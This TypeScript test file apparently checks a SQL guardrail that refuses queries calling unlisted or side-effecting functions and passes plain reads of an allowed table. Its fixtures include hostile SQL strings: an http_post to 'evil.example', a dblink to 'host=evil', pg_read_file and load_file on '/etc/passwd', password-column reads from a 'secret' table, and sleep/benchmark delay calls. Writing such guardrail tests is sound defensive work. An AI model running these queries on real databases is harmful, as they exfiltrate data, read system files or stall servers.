import { expect, test } from "vitest";
import { said } from "../policy/guardrail/inspected.js";

const read = { sql: { statements: ["read"] } } as const;
const orders = { sql: { tables: ["orders"] } } as const;
const calls = (name: string) => `SQL that calls ${name}, which may do more than compute (\`functions\` can list it)`;

const FOREIGN: readonly [sql: string, name: string][] = [
  ["SELECT ts_stat('SELECT to_tsvector(password) FROM secret') FROM orders", "ts_stat"],
  ["SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM secret') FROM orders", "ts_rewrite"],
  ["SELECT pg_wal_replay_pause()", "pg_wal_replay_pause"],
  ["SELECT http_post('https://evil.example', 'x')", "http_post"],
  ["SELECT pg_sleep(10)", "pg_sleep"],
  ["SELECT sleep(10)", "sleep"],
  ["SELECT benchmark(1000000, md5('a'))", "benchmark"],
  ["SELECT current_setting('x.password')", "current_setting"],
  ["SELECT currval('s')", "currval"],
  ["SELECT xpath_table('a', 'b', 'secret', 'c', 'true')", "xpath_table"],
  ["SELECT public.lower(a) FROM orders", "public.lower"],
  ['SELECT "LOWER"(a) FROM orders', "LOWER"],
  ["SELECT pg_catalog.pg_sleep(1)", "pg_catalog.pg_sleep"],
  ['SELECT "pg_catalog"."pg_sleep" (1)', "pg_catalog.pg_sleep"],
  ["SELECT PG_SLEEP /* x */ (1)", "pg_sleep"],
  ["SELECT a FROM orders WHERE evil(a) = 1", "evil"],
  ["SELECT a FROM orders ORDER BY evil(a)", "evil"],
  ["SELECT a FROM orders GROUP BY a HAVING evil(a) > 1", "evil"],
  ["SELECT count(evil(a)) FROM orders", "evil"],
  ["SELECT a FROM orders o JOIN orders p ON evil(o.a)", "evil"],
  ["WITH evil(a) AS (SELECT 1) SELECT evil(1) FROM orders", "evil"],
  ["SELECT key(1) FROM orders", "key"],
  ["SELECT 'secret'::regclass", "regclass"],
  ["SELECT CAST('secret' AS regclass)", "regclass"],
  ["EXPLAIN SELECT evil(1)", "evil"],
];

test.each(FOREIGN)("%s is no read and touches no listed tables only", async (sql, name) => {
  for (const check of [read, orders]) {
    const found = await said(check, sql);
    expect(found).not.toBe("passes");
    // What the grammars do not read is refused for that, and a name of capitals in quotes is read by one before the others.
    if (!/cannot be read/.test(found)) expect(found).toBe(calls(`"${name}"`));
  }
});

test.each([
  "SELECT nextval('s')",
  "SELECT setval('s', 1)",
  "SELECT lo_unlink(1)",
  "SELECT load_file('/etc/passwd')",
  "SELECT load_extension('x')",
  "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)",
  "SELECT * FROM crosstab('SELECT * FROM secret') AS t(a int)",
  "SELECT query_to_xml('SELECT * FROM secret', true, true, '')",
  "SELECT * FROM evil(1)",
  "SELECT a FROM orders, LATERAL evil(a)",
  "SELECT pg_read_file('/etc/passwd')",
  "TABLE secret",
])("%s is neither a read nor on listed tables", async (sql) => {
  for (const check of [read, orders]) expect(await said(check, sql)).not.toBe("passes");
});

test.each([
  "SELECT count(*), coalesce(max(a), 0), lower(b), round(avg(c), 2) FROM orders GROUP BY b HAVING count(*) > 1",
  "SELECT pg_catalog.lower(a), date_trunc('day', b), now() FROM orders",
  "SELECT extract(year FROM a), trim(both 'x' FROM c) FROM orders",
  "SELECT CAST(a AS varchar(10)), CASE WHEN (a = 1) THEN 1 ELSE (2) END FROM orders WHERE b IN (1, 2) AND NOT (c = 1)",
  "SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM orders",
  "SELECT json_extract(a, '$.x'), a FROM orders WHERE EXISTS (SELECT 1 FROM orders WHERE b = 2)",
  "WITH x (a) AS (SELECT a FROM orders) SELECT a FROM x",
  "SELECT if(a = 1, 2, 3), ifnull(b, 1), date_format(c, '%Y'), group_concat(d) FROM orders",
  "SELECT a FROM orders WHERE b = ANY (ARRAY[1, 2])",
  "SELECT strftime('%Y', a), julianday(b) FROM orders",
])("%s is a read of the table", async (sql) => {
  for (const check of [read, orders]) expect(await said(check, sql)).toBe("passes");
});

test.each([
  "INSERT INTO orders (a, b) VALUES (1, lower('x'))",
  "UPDATE orders SET a = upper(b) WHERE (c = 1)",
  "CREATE TABLE orders (a varchar(10), b numeric(10, 2), PRIMARY KEY (a), CHECK (b > 0))",
  "CREATE INDEX i ON orders (a)",
])("a list behind a name is no call: %s", async (sql) => expect(await said(orders, sql)).toBe("passes"));

test("a function that the rule lists passes as it is written there, and no other", async () => {
  const check = { sql: { statements: ["read"], functions: ["similarity", "app.Price"] } } as const;
  expect(await said(check, "SELECT Similarity(a, 'x'), app.price(b) FROM orders")).toBe("passes");
  expect(await said(check, "SELECT price(b) FROM orders")).toBe(calls('"price"'));
  expect(await said(check, "SELECT evil.similarity(a) FROM orders")).toBe(calls('"evil.similarity"'));
});

test("what a text holds in quotes is told only where it is a plain name", async () => {
  expect(await said(read, 'SELECT "the password is hunter2"(1)')).toBe(calls("a function"));
});

test("a write that calls what nobody knows is no write that is allowed", async () => {
  const check = { sql: { statements: ["read", "write"] } } as const;
  expect(await said(check, "UPDATE orders SET a = evil(1) WHERE b = 1")).toBe(calls('"evil"'));
  expect(await said(check, "SELECT nextval('s'), evil(1)")).toBe(calls('"evil"'));
});
